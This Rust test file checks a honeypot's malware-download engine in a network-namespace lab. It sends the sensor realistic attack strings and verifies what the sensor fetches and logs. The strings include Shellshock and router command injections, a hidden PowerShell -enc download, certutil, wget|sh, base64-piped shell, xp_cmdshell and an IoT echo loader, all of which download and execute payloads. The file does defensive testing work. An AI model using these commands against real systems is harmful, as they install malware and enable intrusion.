//! Scenario tests of the malware download engine with the real binary: the daemon (nfq) in the
//! sensor namespace, the attacker and real FTP (pyftpdlib), TFTP (tftpd-hpa) and HTTP(S)
//! (nginx) servers in the client namespace. Each attack string names a file on one of the
//! servers; the test checks the file that lands in `downloads_dir`, by name and bytes, and the
//! log lines.

mod common;

use common::*;
use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::time::Duration;

const T: Duration = Duration::from_secs(20);
const PYTHON: &str = "/usr/bin/python3";
/// The port attacked on the sensor (any port: every attack opens the same listener).
const ATTACK_PORT: u16 = 8081;

/// A server process in the client namespace, killed by PID on drop.
type Server = PeerServer;

/// Another process of a test (a database, a broker, a subscriber), killed by PID on drop.
struct Proc(Child);

impl Drop for Proc {
    fn drop(&mut self) {
        if let Ok(None) = self.0.try_wait() {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
}

fn spawn(pair: &Pair, dir: &Path, name: &str, program: &str, args: &[&str]) -> Server {
    PeerServer::spawn(pair, dir.join(format!("{name}.out")), program, args)
}

/// Pseudo-random test sample `n` of `len` bytes, starting with `MZ`.
fn sample(n: u64, len: usize) -> Vec<u8> {
    let mut x = 0x9e37_79b9_7f4a_7c15u64 ^ n;
    let mut v: Vec<u8> = (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    v[..2].copy_from_slice(b"MZ");
    v
}

fn md5(data: &[u8]) -> String {
    honeytrap::attack::md5_hex(data)
}

const PYFTPD: &str = r#"
import sys, logging
logging.basicConfig(level=logging.DEBUG, stream=sys.stderr)
from pyftpdlib.authorizers import DummyAuthorizer
from pyftpdlib.handlers import FTPHandler
from pyftpdlib.servers import FTPServer
root, host = sys.argv[1], sys.argv[2]
auth = DummyAuthorizer()
auth.add_user("foo", "bar", root, perm="elr")
auth.add_anonymous(root)
FTPHandler.authorizer = auth
FTPHandler.permit_foreign_addresses = True
FTPServer((host, 21), FTPHandler).serve_forever()
"#;

/// nginx's server block: HTTP and HTTPS on 10.77.0.2, HTTP on fd77::2, one redirect.
const NGINX_SERVER: &str = "        listen 10.77.0.2:80;
        listen [fd77::2]:80;
        listen 10.77.0.2:443 ssl;
        ssl_certificate DIR/cert.pem;
        ssl_certificate_key DIR/key.pem;
        root DIR/www;
        location = /old/bins.sh { return 302 /bins.sh; }";

/// The download plugins of [`Lab::start`]: all of them.
const ALL_DOWNLOADS: &str = "plugin-ftpDownload = \"\"\nplugin-tftpDownload = \"\"\nplugin-httpDownload = \"\"";

/// The daemon with every download plugin, and the three servers, each serving `files`.
struct Lab {
    pair: Pair,
    dir: TempDir,
    daemon: Running,
    _servers: Vec<Server>,
}

impl Lab {
    fn start(files: &[(&str, &[u8])], extra: &str) -> Lab {
        Lab::start_with(files, extra, ALL_DOWNLOADS)
    }

    /// The lab with the decoders, SaveFile and the download plugins `downloads`.
    fn start_with(files: &[(&str, &[u8])], extra: &str, downloads: &str) -> Lab {
        Lab::launch(Launch::Foreground, files, extra, downloads)
    }

    /// As [`Lab::start_with`], the daemon started the `launch` way.
    fn launch(launch: Launch, files: &[(&str, &[u8])], extra: &str, downloads: &str) -> Lab {
        let pair = Pair::new();
        let dir = TempDir::new("downloads");
        for d in ["attacks", "downloads", "www", "tmp", "tftp", "ftp"] {
            std::fs::create_dir_all(dir.join(d)).unwrap();
            std::fs::set_permissions(dir.join(d), std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        for (name, data) in files {
            for d in ["www", "tftp", "ftp"] {
                std::fs::write(dir.join(d).join(name), data).unwrap();
                std::fs::set_permissions(dir.join(d).join(name), std::fs::Permissions::from_mode(0o644)).unwrap();
            }
        }
        let mut servers = Vec::new();
        // FTP on 10.77.0.2:21.
        std::fs::write(dir.join("ftpd.py"), PYFTPD).unwrap();
        let ftp_root = dir.join("ftp");
        servers.push(spawn(
            &pair,
            dir.path(),
            "ftpd",
            PYTHON,
            &[dir.join("ftpd.py").to_str().unwrap(), ftp_root.to_str().unwrap(), CLI4],
        ));
        // TFTP on 10.77.0.2:69.
        let tftp_root = dir.join("tftp");
        servers.push(spawn(
            &pair,
            dir.path(),
            "tftpd",
            "in.tftpd",
            &["--foreground", "--address", "10.77.0.2:69", "--user", "root", "--secure", tftp_root.to_str().unwrap()],
        ));
        // HTTP and HTTPS on 10.77.0.2 and fd77::2.
        let d = dir.path().display().to_string();
        let key = format!("{d}/key.pem");
        let cert = format!("{d}/cert.pem");
        let made = std::process::Command::new("openssl")
            .args(["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=test", "-days", "1"])
            .args(["-keyout", &key, "-out", &cert])
            .output()
            .expect("openssl");
        assert!(made.status.success(), "openssl: {}", String::from_utf8_lossy(&made.stderr));
        std::fs::write(dir.join("nginx.conf"), nginx_conf(dir.path(), NGINX_SERVER)).unwrap();
        servers.push(spawn(&pair, dir.path(), "nginx", "nginx", &["-c", dir.join("nginx.conf").to_str().unwrap()]));
        let srv = pair.srv.0.clone();
        let up = in_netns(&srv, || {
            wait_until(Duration::from_secs(10), || {
                ["10.77.0.2:21", "10.77.0.2:80", "10.77.0.2:443", "[fd77::2]:80"]
                    .iter()
                    .all(|a| TcpStream::connect_timeout(&a.parse().unwrap(), Duration::from_millis(200)).is_ok())
            })
        });
        assert!(up, "servers did not start: {}", server_output(dir.path()));

        // The sensor: nfq for TCP and UDP (replies to the download clients' own sockets are
        // queued too, and must not disturb them).
        pair.queue_to_nfq();
        let conf = write_config(
            dir.path(),
            &format!(
                "monitor = \"nfq\"\n{extra}\ndownload_timeout = \"15\"\n\
                 plugin-b64Decode = \"\"\nplugin-deUnicode = \"\"\nplugin-vncDownload = \"\"\n{downloads}\n\
                 plugin-SaveFile = {{ attacks_dir = \"{d}/attacks\" downloads_dir = \"{d}/downloads\" }}\n"
            ),
        );
        let mut cmd = pair.srv.command(BIN);
        cmd.args(["-C", conf.to_str().unwrap(), "-t", "5"]);
        let daemon = Running::start(launch, cmd, &dir.join("honeytrap.log"), &dir.join("honeytrap.pid"));
        Lab { pair, dir, daemon, _servers: servers }
    }

    fn log(&self) -> String {
        read(&self.dir.join("honeytrap.log"))
    }

    /// Sends `data` to the sensor from the attacker namespace and closes.
    fn attack(&self, data: Vec<u8>) {
        let to = SocketAddr::new(SRV4.parse().unwrap(), ATTACK_PORT);
        in_netns(&self.pair.cli.0, move || {
            let mut s = TcpStream::connect_timeout(&to, Duration::from_secs(3)).expect("connect");
            s.write_all(&data).unwrap();
            s.shutdown(Shutdown::Write).unwrap();
            let mut sink = Vec::new();
            s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
            let _ = s.read_to_end(&mut sink);
        });
    }

    fn downloads(&self) -> Vec<(String, Vec<u8>)> {
        let mut v: Vec<(String, Vec<u8>)> = std::fs::read_dir(self.dir.join("downloads"))
            .unwrap()
            .filter_map(|e| {
                let e = e.ok()?;
                let name = e.file_name().to_string_lossy().into_owned();
                (!name.starts_with('.')).then(|| (name, std::fs::read(e.path()).unwrap_or_default()))
            })
            .collect();
        v.sort();
        v
    }

    /// Waits until `<md5>-<name>` with exactly `data` is in downloads_dir.
    fn expect_download(&self, name: &str, data: &[u8]) {
        let want = format!("{}-{}", md5(data), name);
        let ok = wait_until(T, || self.downloads().iter().any(|(n, d)| *n == want && d == data));
        assert!(
            ok,
            "no {want} in {:?}\nlog:\n{}\nservers:\n{}",
            self.downloads().iter().map(|d| &d.0).collect::<Vec<_>>(),
            self.log(),
            server_output(self.dir.path())
        );
    }

    fn path(&self, p: &str) -> PathBuf {
        self.dir.join(p)
    }
}

impl Drop for Lab {
    fn drop(&mut self) {
        let _ = self.daemon.stop(T);
    }
}

fn server_output(dir: &Path) -> String {
    ["ftpd", "tftpd", "nginx"]
        .iter()
        .map(|n| format!("{n}: {}", std::fs::read_to_string(dir.join(format!("{n}.out"))).unwrap_or_default()))
        .collect::<Vec<_>>()
        .join("\n")
}

fn needs(name: &str) -> bool {
    root_or_skip(name, &["ip", "iptables", "ip6tables", "in.tftpd", "nginx", "openssl", PYTHON])
}

/// UTF-16LE of `s` (MS-SQL and PowerShell `-enc` bodies).
fn utf16(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect()
}

fn b64(data: &[u8]) -> String {
    honeytrap::pipeline::decode::base64_encode(data)
}

#[test]
fn every_family_lands_in_downloads_dir() {
    if !needs("every_family_lands_in_downloads_dir") {
        return;
    }
    let files: Vec<(String, Vec<u8>)> =
        (1..=14).map(|i| (format!("s{i}.bin"), sample(i, 700 + 997 * i as usize))).collect();
    let refs: Vec<(&str, &[u8])> = files.iter().map(|(n, d)| (n.as_str(), d.as_slice())).collect();
    let lab = Lab::start(&refs, "");
    let f = |i: usize| (&files[i - 1].0, &files[i - 1].1);

    let cases: Vec<(Vec<u8>, &str, usize)> = vec![
        // Windows cmd FTP script with user and password on one line.
        (
            format!("cmd /c echo open {CLI4} 21 > o&echo user foo bar >> o &echo binary >> o&echo get {} >> o &echo bye >> o &ftp -n -v -s:o &del o &{}\r\n", f(1).0, f(1).0).into_bytes(),
            "s1.bin",
            1,
        ),
        // Windows tftp.
        (format!("tftp -i {CLI4} GET {}\r\n", f(2).0).into_bytes(), "s2.bin", 2),
        // Unix tftp in a router injection.
        (
            format!("GET /shell?cd+/tmp;tftp+-g+-r+{}+{CLI4};chmod+777+{} HTTP/1.1\r\nHost: x\r\n\r\n", f(3).0, f(3).0).into_bytes(),
            "s3.bin",
            3,
        ),
        // wget in an URL-encoded router request.
        (
            format!("GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{CLI4}/{}+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n", f(4).0).into_bytes(),
            "netgear",
            4,
        ),
        // curl in a Shellshock header.
        (
            format!("GET /cgi-bin/test.cgi HTTP/1.1\r\nHost: x\r\nUser-Agent: () {{ :; }}; /bin/bash -c \"curl -s -o /tmp/{} http://{CLI4}/{}; sh /tmp/{}\"\r\n\r\n", f(5).0, f(5).0, f(5).0).into_bytes(),
            "s5.bin",
            5,
        ),
        // PowerShell -enc (UTF-16LE base64).
        (
            format!(
                "powershell.exe -nop -w hidden -enc {}\r\n",
                b64(&utf16(&format!("(New-Object Net.WebClient).DownloadFile('http://{CLI4}/{}','C:\\Users\\Public\\{}')", f(6).0, f(6).0)))
            )
            .into_bytes(),
            "s6.bin",
            6,
        ),
        // certutil.
        (format!("certutil -urlcache -split -f http://{CLI4}/{} C:\\Windows\\Temp\\{}\r\n", f(7).0, f(7).0).into_bytes(), "s7.bin", 7),
        // base64 shell body.
        (format!("echo {}|base64 -d|sh\n", b64(format!("cd /tmp; wget http://{CLI4}/{}; chmod +x {}", f(8).0, f(8).0).as_bytes())).into_bytes(), "s8.bin", 8),
        // busybox ftpget with user and password.
        (format!("cd /tmp; busybox ftpget -u foo -p bar {CLI4} {} {}; chmod 777 {}\n", f(9).0, f(9).0, f(9).0).into_bytes(), "s9.bin", 9),
        // Bare ftp:// URL.
        (format!("fetch ftp://{CLI4}/{}\n", f(10).0).into_bytes(), "s10.bin", 10),
        // HTTPS, IPv6 and a redirect.
        (format!("wget --no-check-certificate https://{CLI4}/{}\n", f(11).0).into_bytes(), "s11.bin", 11),
        (format!("wget http://[fd77::2]/{} -O /tmp/{}\n", f(12).0, f(12).0).into_bytes(), "s12.bin", 12),
        // MS-SQL in UTF-16LE (deUnicode).
        (utf16(&format!("EXEC master..xp_cmdshell 'tftp -i {CLI4} GET {}'", f(13).0)), "s13.bin", 13),
        // Authorization: Negotiate with a base64 body (b64Decode).
        (
            format!("GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Negotiate {}\r\n\r\n", b64(format!("wget http://{CLI4}/{}", f(14).0).as_bytes())).into_bytes(),
            "s14.bin",
            14,
        ),
    ];
    // The FTP attacks one at a time: pyftpdlib 1.5.7 can lose a new control connection
    // from its poller when another session's data connection closes at the same moment (its
    // file descriptor is reused and then unregistered; seen twice in 30 runs: the server
    // never reads USER or PASS). The other attacks run concurrently.
    for (attack, name, i) in &cases {
        lab.attack(attack.clone());
        if [1, 9, 10].contains(i) {
            lab.expect_download(name, &files[i - 1].1);
        }
    }
    for (_, name, i) in &cases {
        lab.expect_download(name, &files[i - 1].1);
    }
    let log = lab.log();
    assert!(log.contains(&format!("FTP download - Requesting '{}' from {CLI4}:21.", f(1).0)), "{log}");
    assert!(log.contains(&format!("TFTP download - Requesting '{}' from {CLI4}.", f(2).0)), "{log}");
    assert!(log.contains("successfully downloaded and attached to attack record."), "{log}");
}

#[test]
fn inline_vnc_fallback_and_duplicates() {
    if !needs("inline_vnc_fallback_and_duplicates") {
        return;
    }
    let a = sample(21, 5000);
    let b = sample(22, 3000);
    let lab = Lab::start(&[("a.exe", &a), ("b.sh", &b)], "");

    // An IoT echo loader writing an ELF in chunks.
    let elf: Vec<u8> = b"\x7fELF\x01\x01\x01\x00".iter().copied().chain((0u8..=255).cycle().take(600)).collect();
    let mut loader = String::from("cd /tmp; rm -f .d; ");
    for chunk in elf.chunks(64) {
        let esc: String = chunk.iter().map(|b| format!("\\x{b:02x}")).collect();
        loader.push_str(&format!("echo -ne '{esc}' >> .d; "));
    }
    loader.push_str("chmod +x .d; ./.d\n");
    lab.attack(loader.into_bytes());
    lab.expect_download(".d", &elf);

    // A VNC session with the URL typed as key-down/key-up pairs.
    let typed = format!("wget http://{CLI4}/b.sh");
    let mut vnc = b"RFB 003.008\n".to_vec();
    for c in typed.bytes() {
        vnc.extend_from_slice(&[c, c]);
    }
    lab.attack(vnc);
    lab.expect_download("b.sh", &b);

    // The FTP server named does not answer: the attacker's own address is tried instead.
    lab.attack(b"echo open 10.77.0.99 21>>x&echo user foo bar>>x&echo get a.exe>>x&ftp -n -s:x\r\n".to_vec());
    lab.expect_download("a.exe", &a);
    assert!(lab.log().contains("trying the attacking address (10.77.0.2) instead."), "{}", lab.log());

    // The same sample again, under another name: stored once.
    lab.attack(format!("wget http://{CLI4}/a.exe -O other.exe\n").into_bytes());
    let log = lab.path("honeytrap.log");
    assert!(wait_for_text(&log, "is known already", T), "{}", lab.log());
    assert_eq!(lab.downloads().iter().filter(|(_, d)| *d == a).count(), 1, "{:?}", lab.downloads());
}

#[test]
fn loopback_and_caps_are_refused() {
    if !needs("loopback_and_caps_are_refused") {
        return;
    }
    let big = sample(31, 300_000);
    let lab = Lab::start(
        &[("big.bin", &big), ("c.bin", b"MZ small")],
        "download_max_size = \"100000\"\ndownloads_per_attack = \"1\"",
    );
    // Loopback is never fetched from; too large is abandoned; only one download per attack.
    lab.attack(b"wget http://127.0.0.1/c.bin\n".to_vec());
    lab.attack(format!("wget http://{CLI4}/big.bin\n").into_bytes());
    lab.attack(format!("wget http://{CLI4}/c.bin; wget http://{CLI4}/big.bin\n").into_bytes());
    lab.expect_download("c.bin", b"MZ small");
    let log = lab.path("honeytrap.log");
    assert!(wait_for_text(&log, "127.0.0.1 is a loopback address", T), "{}", lab.log());
    assert!(wait_for_text(&log, "file larger than 100000 bytes", T), "{}", lab.log());
    assert!(wait_for_text(&log, "only the first 1 are tried", T), "{}", lab.log());
    assert!(!lab.downloads().iter().any(|(_, d)| *d == big));
}

#[test]
fn outputs_describe_the_attack_after_its_downloads_in_the_foreground() {
    if needs("outputs_describe_the_attack_after_its_downloads_in_the_foreground") {
        outputs_describe_the_attack_after_its_downloads(Launch::Foreground);
    }
}

#[test]
fn outputs_describe_the_attack_after_its_downloads_detached() {
    if needs("outputs_describe_the_attack_after_its_downloads_detached") {
        outputs_describe_the_attack_after_its_downloads(Launch::Detached);
    }
}

/// The file outputs and syslog of the daemon started the `launch` way, before and after a
/// SIGHUP with rotation.
fn outputs_describe_the_attack_after_its_downloads(launch: Launch) {
    let a = sample(41, 4000);
    let scratch = TempDir::new("outputs");
    let sock_path = scratch.join("syslog.sock");
    let sock = std::os::unix::net::UnixDatagram::bind(&sock_path).unwrap();
    let d = scratch.path().display().to_string();
    let extra = format!(
        "sensor_name = \"lab-1\"\n\
         plugin-logAttacker = {{ logfile = \"{d}/attacker.log\" }}\n\
         plugin-logJSON = {{ logfile = \"{d}/attackers.json\" }}\n\
         plugin-logEvents = {{ logfile = \"{d}/events.json\" }}\n\
         plugin-syslog = {{ target = \"unix:{}\" what = \"both\" }}",
        sock_path.display()
    );
    let lab = Lab::launch(launch, &[("a.exe", &a)], &extra, ALL_DOWNLOADS);
    let attack = format!("GET /x?cmd=wget+http://{CLI4}/a.exe HTTP/1.0\r\n\r\n");
    lab.attack(attack.clone().into_bytes());
    lab.expect_download("a.exe", &a);
    let events = scratch.join("events.json");
    assert!(wait_for_text(&events, "honeytrap.session.closed", T), "{}", read(&events));
    // The closed event comes before the attack's records: wait for those too.
    let records = |n: usize| {
        wait_until(T, || {
            read(&scratch.join("attacker.log")).lines().count() == n
                && read(&scratch.join("attackers.json")).lines().count() == n
        })
    };
    assert!(records(1), "{}", lab.log());

    // logAttacker: one line, the exact shape the C plugin wrote.
    let attacker = read(&scratch.join("attacker.log"));
    let lines: Vec<&str> = attacker.lines().collect();
    assert_eq!(lines.len(), 1, "{attacker}");
    let md5_attack = md5(attack.as_bytes());
    assert!(lines[0].starts_with('[') && lines[0].contains(" GMT] tcp 10.77.0.2:"), "{attacker}");
    assert!(lines[0].contains(&format!(" -> 10.77.0.1:{ATTACK_PORT} {md5_attack} ")), "{attacker}");
    assert!(lines[0].ends_with(&format!("({} bytes)", attack.len())), "{attacker}");

    // logJSON: written after the download, so it counts it.
    let json = read(&scratch.join("attackers.json"));
    assert_eq!(json.lines().count(), 1, "{json}");
    for want in [
        "\"download_count\": 1",
        "\"download_tries\": 1",
        "\"type_0\": \"http\"",
        "\"filename_0\": \"a.exe\"",
        &format!("\"uri_0\": \"http:\\/\\/{CLI4}\\/a.exe\""),
        &format!("\"md5_hash\": \"{}\"", md5(&a)),
        &format!("\"local_port\": {ATTACK_PORT}"),
    ] {
        assert!(json.contains(want), "{want} not in {json}");
    }

    // The event stream: the five events of the connection, one session, in order.
    let ev = read(&events);
    let ids: Vec<&str> = ev.lines().filter_map(|l| l.split("\"eventid\":\"").nth(1)?.split('"').next()).collect();
    assert_eq!(
        ids,
        [
            "honeytrap.session.connect",
            "honeytrap.session.input",
            "honeytrap.session.file_download.started",
            "honeytrap.session.file_download",
            "honeytrap.session.closed"
        ],
        "{ev}"
    );
    let session = |l: &str| l.split("\"session\":\"").nth(1).and_then(|s| s.split('"').next()).map(str::to_string);
    let first = session(ev.lines().next().unwrap()).expect("session id");
    assert!(ev.lines().all(|l| session(l).as_deref() == Some(first.as_str())), "{ev}");
    assert!(ev.lines().all(|l| l.contains("\"sensor\":\"lab-1\"")), "{ev}");
    assert!(ev.contains(&format!("\"outfile\":\"{}-a.exe\"", md5(&a))) && ev.contains("\"duplicate\":false"), "{ev}");

    // syslog (what = both): the events and the daemon log, RFC 5424.
    let msgs = datagrams(&sock, Duration::from_secs(1));
    assert!(msgs.iter().any(|m| m.starts_with("<") && m.contains(" honeytrap.session.closed ")), "{msgs:?}");
    assert!(msgs.iter().any(|m| m.contains("successfully downloaded and attached")), "{msgs:?}");

    // Rotation: SIGHUP reopens the files by name; the same sample again is a duplicate.
    std::fs::rename(scratch.join("attacker.log"), scratch.join("attacker.log.1")).unwrap();
    std::fs::rename(&events, scratch.join("events.json.1")).unwrap();
    lab.daemon.signal("HUP");
    assert!(wait_for_text(&lab.path("honeytrap.log"), "honeytrap reconfigured", T), "{}", lab.log());
    lab.attack(format!("wget http://{CLI4}/a.exe\n").into_bytes());
    assert!(wait_for_text(&events, "honeytrap.session.closed", T), "{}", lab.log());
    assert!(wait_until(T, || read(&scratch.join("attackers.json")).lines().count() == 2), "{}", lab.log());
    assert_eq!(read(&scratch.join("attacker.log")).lines().count(), 1);
    assert_eq!(read(&scratch.join("attacker.log.1")).lines().count(), 1);
    assert!(read(&events).contains("\"duplicate\":true"), "{}", read(&events));
    assert_eq!(read(&scratch.join("attackers.json")).lines().count(), 2);
    // The collector output lives on across the reload (its entry did not change).
    let after = datagrams(&sock, Duration::from_secs(1));
    assert!(after.iter().any(|m| m.contains(" honeytrap.session.closed ")), "{after:?}");
    assert!(after.iter().any(|m| m.contains("honeytrap reconfigured")), "{after:?}");
}

const HPFEEDS_SUBSCRIBER: &str = r#"
import sys, hpfeeds
c = hpfeeds.new('127.0.0.1', int(sys.argv[1]), 'reader', 'reader-secret', reconnect=False)
c.subscribe(['honeytrap.events', 'honeytrap.files'])
def on_msg(ident, chan, payload):
    print(chan + '\t' + ident + '\t' + payload.hex(), flush=True)
c.run(on_msg, lambda e: print('ERROR\t' + e, flush=True))
"#;

#[test]
fn collectors_get_the_events_samples_and_records_of_the_foreground_daemon() {
    if needs("collectors_get_the_events_samples_and_records_of_the_foreground_daemon") {
        collectors_get_the_events_samples_and_records(Launch::Foreground);
    }
}

#[test]
fn collectors_get_the_events_samples_and_records_of_the_detached_daemon() {
    if needs("collectors_get_the_events_samples_and_records_of_the_detached_daemon") {
        collectors_get_the_events_samples_and_records(Launch::Detached);
    }
}

/// hpfeeds and PostgreSQL fed by the daemon started the `launch` way, before and after a
/// SIGHUP.
fn collectors_get_the_events_samples_and_records(launch: Launch) {
    let (Some(venv), Some(pg)) = (hpfeeds_venv(), pg_bin()) else {
        let why = "needs the hpfeeds broker venv and the PostgreSQL server (.ci/run installs both)";
        skip("collectors_get_the_events_samples_and_records_of_the_running_daemon", why);
        return;
    };
    if !cfg!(feature = "postgres") {
        skip(
            "collectors_get_the_events_samples_and_records_of_the_running_daemon",
            "built without the postgres feature",
        );
        return;
    }
    let a = sample(51, 3000);
    let scratch = TempDir::new("collectors");
    let d = scratch.path().display().to_string();

    // PostgreSQL as the postgres user, on a Unix socket only (reachable from the sensor's
    // network namespace through the file system).
    let setpriv = |program: &Path| {
        let mut c = std::process::Command::new("setpriv");
        c.args(["--reuid=postgres", "--regid=postgres", "--clear-groups", "--"]).arg(program);
        c
    };
    let init = setpriv(&pg.join("initdb"))
        .args(["-D", &format!("{d}/pgdata"), "-U", "ht", "--auth-local=trust", "--no-locale", "-E", "UTF8"])
        .output()
        .unwrap();
    assert!(init.status.success(), "initdb: {}", String::from_utf8_lossy(&init.stderr));
    let pg_server = Proc(
        setpriv(&pg.join("postgres"))
            .args(["-D", &format!("{d}/pgdata"), "-p", "5433", "-k", &d, "-c", "listen_addresses="])
            .args(["-c", "fsync=off"])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(scratch.join("pg.log")).unwrap())
            .spawn()
            .unwrap(),
    );
    let psql = |db: &str, sql: &str| {
        let out = std::process::Command::new("psql")
            .args(["-h", &d, "-p", "5433", "-U", "ht", "-d", db, "-X", "-A", "-t", "-c", sql])
            .output()
            .ok()?;
        out.status.success().then(|| String::from_utf8_lossy(&out.stdout).trim().to_string())
    };
    assert!(wait_until(T, || psql("postgres", "SELECT 1").is_some()), "{}", read(&scratch.join("pg.log")));
    assert!(psql("postgres", "CREATE DATABASE honeytrap").is_some());

    // The hpfeeds broker and a subscriber, on the loopback of the sensor namespace.
    let lab_extra = format!(
        "sensor_name = \"lab-2\"\n\
         plugin-hpfeeds = {{ host = \"127.0.0.1\" port = \"10222\" ident = \"sensor\" secret = \"s3cret\" }}\n\
         plugin-submitPostgres = {{ db_host = \"{d}\" db_port = \"5433\" db_name = \"honeytrap\" db_user = \"ht\" }}"
    );
    // Lab::start creates the namespaces; the broker must listen before the daemon starts
    // publishing, but the daemon reconnects with back-off anyway.
    let lab = Lab::launch(launch, &[("a.exe", &a)], &lab_extra, ALL_DOWNLOADS);
    run_ok("ip", &["-n", &lab.pair.srv.0, "link", "set", "lo", "up"]);
    let broker = Proc(
        lab.pair
            .srv
            .command(venv.join("bin/hpfeeds-broker").to_str().unwrap())
            .args(["--auth", "env", "--name", "lab", "--bind", "127.0.0.1:10222", "--exporter", "127.0.0.1:10223"])
            .env("HPFEEDS_SENSOR_SECRET", "s3cret")
            .env("HPFEEDS_SENSOR_PUBCHANS", "honeytrap.events,honeytrap.files")
            .env("HPFEEDS_READER_SECRET", "reader-secret")
            .env("HPFEEDS_READER_SUBCHANS", "honeytrap.events,honeytrap.files")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(scratch.join("broker.log")).unwrap())
            .spawn()
            .unwrap(),
    );
    let srv = lab.pair.srv.0.clone();
    assert!(
        in_netns(&srv, || wait_until(T, || TcpStream::connect("127.0.0.1:10222").is_ok())),
        "{}",
        read(&scratch.join("broker.log"))
    );
    let sub_out = scratch.join("subscriber.out");
    let subscriber = Proc(
        lab.pair
            .srv
            .command(venv.join("bin/python").to_str().unwrap())
            .args(["-c", HPFEEDS_SUBSCRIBER, "10222"])
            .stdin(Stdio::null())
            .stdout(std::fs::File::create(&sub_out).unwrap())
            .stderr(std::fs::File::create(scratch.join("subscriber.err")).unwrap())
            .spawn()
            .unwrap(),
    );
    std::thread::sleep(Duration::from_secs(1));

    // An attack with a download, once the daemon is connected to the broker.
    assert!(wait_for_text(&lab.path("honeytrap.log"), "hpfeeds", T), "no hpfeeds line in the log:\n{}", lab.log());
    let attack = format!("cd /tmp; wget http://{CLI4}/a.exe; chmod +x a.exe\n");
    lab.attack(attack.clone().into_bytes());
    lab.expect_download("a.exe", &a);

    // hpfeeds: the events of the connection and the sample itself.
    let hex = |b: &[u8]| b.iter().map(|x| format!("{x:02x}")).collect::<String>();
    let got = |what: &str| read(&sub_out).contains(what);
    assert!(
        wait_until(T, || got(&format!("honeytrap.files\tsensor\t{}", hex(&a)))),
        "{}\n{}",
        read(&sub_out),
        lab.log()
    );
    let closed = hex(b"\"eventid\":\"honeytrap.session.closed\"");
    assert!(wait_until(T, || read(&sub_out).lines().any(|l| l.contains(&closed))), "{}", read(&sub_out));

    // PostgreSQL: the attack, its download and the sample, by sha256.
    let sha256 = |b: &[u8]| {
        use sha2::Digest;
        sha2::Sha256::digest(b).iter().map(|x| format!("{x:02x}")).collect::<String>()
    };
    let q = format!("SELECT count(*) FROM samples WHERE sha256 = '{}'", sha256(&a));
    assert!(wait_until(T, || psql("honeytrap", &q).as_deref() == Some("1")), "no sample row; log:\n{}", lab.log());
    assert_eq!(psql("honeytrap", "SELECT count(*) FROM attacks").as_deref(), Some("1"));
    assert_eq!(psql("honeytrap", "SELECT filename FROM downloads").as_deref(), Some("a.exe"));
    assert_eq!(psql("honeytrap", "SELECT name FROM sensors").as_deref(), Some("lab-2"));

    // After SIGHUP (the collectors' entries unchanged, so they live on) a second attack
    // reaches both.
    lab.daemon.signal("HUP");
    assert!(wait_for_text(&lab.path("honeytrap.log"), "honeytrap reconfigured", T), "{}", lab.log());
    lab.attack(b"after the reload\r\n".to_vec());
    // The input event carries the attack as data_hex; the subscriber prints the event in hex.
    let second = hex(hex(b"after the reload").as_bytes());
    let closed_events = || read(&sub_out).lines().filter(|l| l.contains(&closed)).count();
    assert!(wait_until(T, || read(&sub_out).contains(&second) && closed_events() == 2), "{}", read(&sub_out));
    let attacks = || psql("honeytrap", "SELECT count(*) FROM attacks");
    assert!(wait_until(T, || attacks().as_deref() == Some("2")), "{:?}; log:\n{}", attacks(), lab.log());
    drop((subscriber, broker, pg_server));
}

#[test]
fn tpot_plugins_fetch_http_with_the_builtin_client_unless_http_download_is_no() {
    if !needs("tpot_plugins_fetch_http_with_the_builtin_client_unless_http_download_is_no") {
        return;
    }
    let a = sample(61, 2000);
    // T-Pot's download plugins: ftpDownload and tftpDownload, no httpDownload.
    let tpot = "plugin-ftpDownload = \"\"\nplugin-tftpDownload = \"\"";
    let lab = Lab::start_with(&[("t.sh", &a)], "", tpot);
    lab.attack(format!("GET /cgi-bin/x?c=cd+/tmp;wget+http://{CLI4}/t.sh;sh+t.sh HTTP/1.1\r\n\r\n").into_bytes());
    lab.expect_download("t.sh", &a);
    drop(lab);

    let lab = Lab::start_with(&[("t.sh", &a)], "http_download = \"no\"", tpot);
    lab.attack(format!("wget http://{CLI4}/t.sh\n").into_bytes());
    assert!(wait_for_text(&lab.path("honeytrap.log"), "bytes attack string from", T), "{}", lab.log());
    std::thread::sleep(Duration::from_secs(2));
    assert!(lab.downloads().is_empty(), "{:?}", lab.downloads());
    assert!(!lab.log().contains("HTTP download"), "{}", lab.log());
}

#[test]
fn a_silent_server_does_not_hold_up_the_attacks_other_downloads() {
    if !needs("a_silent_server_does_not_hold_up_the_attacks_other_downloads") {
        return;
    }
    let c = sample(71, 1500);
    let lab = Lab::start(&[("c.bin", &c)], "download_timeout = \"4\"");
    // Port 81 of the server host drops every packet: those downloads wait for their timeout
    // (4 s here); three of them and the good one run side by side, not one after the other.
    run_ok(
        "ip",
        &["netns", "exec", &lab.pair.cli.0, "iptables", "-A", "INPUT", "-p", "tcp", "--dport", "81", "-j", "DROP"],
    );
    let t0 = std::time::Instant::now();
    lab.attack(
        format!("wget http://{CLI4}:81/slow1; wget http://{CLI4}:81/slow2; wget http://{CLI4}:81/slow3; wget http://{CLI4}/c.bin\n")
            .into_bytes(),
    );
    lab.expect_download("c.bin", &c);
    assert!(t0.elapsed() < Duration::from_secs(9), "the downloads ran one after the other: {:?}", t0.elapsed());
    // The silent ones ended at the download timeout, each with a log line.
    for n in 1..=3 {
        assert!(lab.log().contains(&format!(":81/slow{n}: ")), "{}", lab.log());
    }
}

/// xmatch: a command XOR-encoded with a three-byte key is found through its known
/// plaintext (`http://`), decoded, and its download fetched for the real attack.
#[test]
